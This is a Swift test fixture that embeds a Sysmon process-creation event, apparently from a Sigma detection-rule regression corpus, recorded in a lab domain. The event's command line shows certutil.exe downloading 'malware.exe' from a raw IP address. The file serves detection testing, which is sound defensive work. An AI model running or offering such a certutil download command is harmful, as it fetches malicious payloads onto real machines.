/// A Sysmon process-creation record (EventID 1) rendered as JSON, from the SigmaHQ regression
/// corpus (`regression_data/rules/windows/process_creation/proc_creation_win_certutil_download_direct_ip/
/// 13e6fe51-d478-4c7e-b0f2-6da9b400a829.json`, also in /work/shared/testdata/sigma), embedded so
/// the test does not depend on files outside the repository.
enum WindowsEventFixture {
    static let certutilDownload = ##"""
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Sysmon",
          "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
        }
      },
      "EventID": 1,
      "Version": 5,
      "Level": 4,
      "Task": 1,
      "Opcode": 0,
      "Keywords": "0x8000000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2025-10-25T17:01:06.116464Z"
        }
      },
      "EventRecordID": 11507958,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Microsoft-Windows-Sysmon/Operational",
      "Computer": "ar-win-dc.attackrange.local",
      "Security": {
        "#attributes": {
          "UserID": "S-1-5-18"
        }
      }
    },
    "EventData": {
      "RuleName": "-",
      "UtcTime": "2025-10-25 17:01:06.109",
      "ProcessGuid": "5AA13A44-0252-68FD-7235-000000004002",
      "ProcessId": 6432,
      "Image": "C:\\Windows\\System32\\certutil.exe",
      "FileVersion": "10.0.20348.4163 (WinBuild.160101.0800)",
      "Description": "CertUtil.exe",
      "Product": "Microsoft® Windows® Operating System",
      "Company": "Microsoft Corporation",
      "OriginalFileName": "CertUtil.exe",
      "CommandLine": "certutil.exe  -urlcache -f http://10.0.1.14/malware.exe malware-ctl.exe",
      "CurrentDirectory": "C:\\Users\\Administrator\\Downloads\\",
      "User": "ATTACKRANGE\\Administrator",
      "LogonGuid": "5AA13A44-568F-68FB-E39A-520000000000",
      "LogonId": "0x529ae3",
      "TerminalSessionId": 2,
      "IntegrityLevel": "High",
      "Hashes": "SHA1=317E563BFC7EC87B181D5A1745E43B8F5288DBFC,MD5=A561A96624CA5CD5491BFC1609E2958A,SHA256=D5B7E8E44F37B1FBD79A79E3321244EEF946F419151374BD1BE4D6833754FED8,IMPHASH=02CB6949ACFAA0B84149D99111C16734",
      "ParentProcessGuid": "5AA13A44-0FEC-68FC-281E-000000004002",
      "ParentProcessId": 6304,
      "ParentImage": "C:\\Windows\\System32\\cmd.exe",
      "ParentCommandLine": "\"C:\\Windows\\System32\\cmd.exe\"",
      "ParentUser": "ATTACKRANGE\\Administrator"
    }
  }
}
"""##
}
